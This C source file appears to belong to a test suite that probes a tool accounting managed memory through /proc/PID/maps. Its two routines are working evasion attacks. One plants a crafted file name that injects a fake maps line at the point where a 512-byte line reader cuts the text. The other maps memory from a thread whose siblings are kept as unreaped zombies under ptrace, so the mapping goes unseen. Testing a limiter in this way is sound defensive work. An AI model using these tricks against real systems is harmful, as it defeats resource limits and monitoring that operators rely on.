/* Managed memory beside mappings of files whose names, or threads whose ends, are meant for readers of /proc/PID/maps. */
#include "attack.h"

#include <sys/ptrace.h>
#include <sys/stat.h>

#define PIECE 511      /* what a reader that calls fgets with 512 bytes takes for one line */
#define DIRECTORY 220u /* characters of the directory's name */
#define ZOMBIES 80
/* A mapping that ends before it begins: 1.5 GiB less. */
#define LIE "60000000-0 ---s 60000000 "

static void *map_managed (const struct uvm *uvm)
{
    return mmap ((void *) UVM_BASE, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, uvm->file,
                 (off_t) UVM_BASE);
}

/* Where the lie begins in its line of /proc/self/maps; -1: nowhere. */
static long place_of_lie (void)
{
    FILE *file = fopen ("/proc/self/maps", "re");
    char *line = NULL;
    size_t room = 0;
    long place = -1;

    while (file != NULL && place < 0 && getline (&line, &room, file) > 0)
        if (strstr (line, LIE) != NULL)
            place = strstr (line, LIE) - line;
    if (file != NULL)
        fclose (file);
    free (line);
    return place;
}

/* Maps a file, which is removed at once, whose name is the lie after so many letters. */
static void *map_lie (unsigned letters)
{
    char directory[DIRECTORY + 1] = { 0 }, path[600];
    void *page = MAP_FAILED;
    int file;

    memset (directory, 'd', DIRECTORY);
    snprintf (path, sizeof (path), "%s/%.*s%s", directory, (int) letters, directory, LIE);
    if (mkdir (directory, 0700) == 0 && (file = open (path, O_RDWR | O_CREAT, 0600)) >= 0) {
        page = mmap (NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
        close (file);
        unlink (path);
    }
    rmdir (directory);
    return page;
}

/* uvm-path: 1.5 GiB of managed memory, beside a mapping whose line goes on with another one's text where a piece of it ends. How
 * many pieces of 1 GiB can be had? */
void attack_uvm_path (int argc, char **argv)
{
    char directory[] = "/tmp/attack.XXXXXX";
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    unsigned letters = 0;
    void *page;

    (void) argc, (void) argv;
    if (mkdtemp (directory) == NULL || chdir (directory) != 0)
        exit (4);
    page = map_lie (letters);
    letters = (unsigned) (PIECE - place_of_lie ());
    munmap (page, 4096);
    page = letters <= DIRECTORY ? map_lie (letters) : MAP_FAILED;
    if (rmdir (directory) != 0 || page == MAP_FAILED)
        exit (4);
    say ("place", (uint64_t) place_of_lie ());
    say ("mapped", map_managed (&uvm) == MAP_FAILED ? (uint64_t) errno : 0);
    let_it_be_seen ();
    say ("pieces", bed_fill (&bed));
    hold ();
}

struct zombies {
    struct bed bed;
    struct uvm uvm;
    volatile int tids[ZOMBIES];
    int traced[2], end[2]; /* the tracer says that it traces all; nothing else is sent: they end when it is closed */
};
static struct zombies zombies;

static void wait_for_end (int file)
{
    char byte;

    while (read (file, &byte, 1) < 0)
        continue;
}

static void *end_traced (void *argument)
{
    *(volatile int *) argument = (int) syscall (SYS_gettid);
    wait_for_end (zombies.end[0]);
    syscall (SYS_exit, 0);
    return NULL;
}

/* Threads that ended, and that their tracer has not waited for, are there without any mapping. */
static void trace (int alive)
{
    close (zombies.end[1]);
    for (unsigned i = 0; i < ZOMBIES; i++)
        if (ptrace (PTRACE_SEIZE, zombies.tids[i], 0, 0) != 0)
            _exit (5);
    if (write (zombies.traced[1], "t", 1) != 1)
        _exit (5);
    wait_for_end (alive);
    _exit (0);
}

static void *map_behind (void *argument)
{
    usleep (200000); /* all others have ended by now */
    say ("mapped", map_managed (&zombies.uvm) == MAP_FAILED ? (uint64_t) errno : 0);
    let_it_be_seen ();
    say ("pieces", bed_fill (&zombies.bed));
    hold ();
    exit (0);
    return argument;
}

/* uvm-zombies: 1.5 GiB of managed memory, mapped by the last of many threads of which all others have ended. */
void attack_uvm_zombies (int argc, char **argv)
{
    pthread_t thread;
    int alive[2];
    char byte;
    pid_t tracer;

    (void) argc, (void) argv;
    zombies.bed = bed_open ();
    zombies.uvm = uvm_begin (&zombies.bed, false);
    if (pipe (zombies.traced) != 0 || pipe (zombies.end) != 0 || pipe (alive) != 0)
        exit (4);
    for (unsigned i = 0; i < ZOMBIES; i++) {
        if (pthread_create (&thread, NULL, end_traced, (void *) &zombies.tids[i]) != 0)
            exit (4);
        while (zombies.tids[i] == 0)
            usleep (100);
    }
    tracer = fork ();
    if (tracer == 0) {
        close (alive[1]);
        trace (alive[0]);
    }
    close (zombies.traced[1]);
    if (tracer < 0 || read (zombies.traced[0], &byte, 1) != 1 || pthread_create (&thread, NULL, map_behind, NULL) != 0)
        exit (4);
    close (zombies.end[1]);
    syscall (SYS_exit, 0);
}
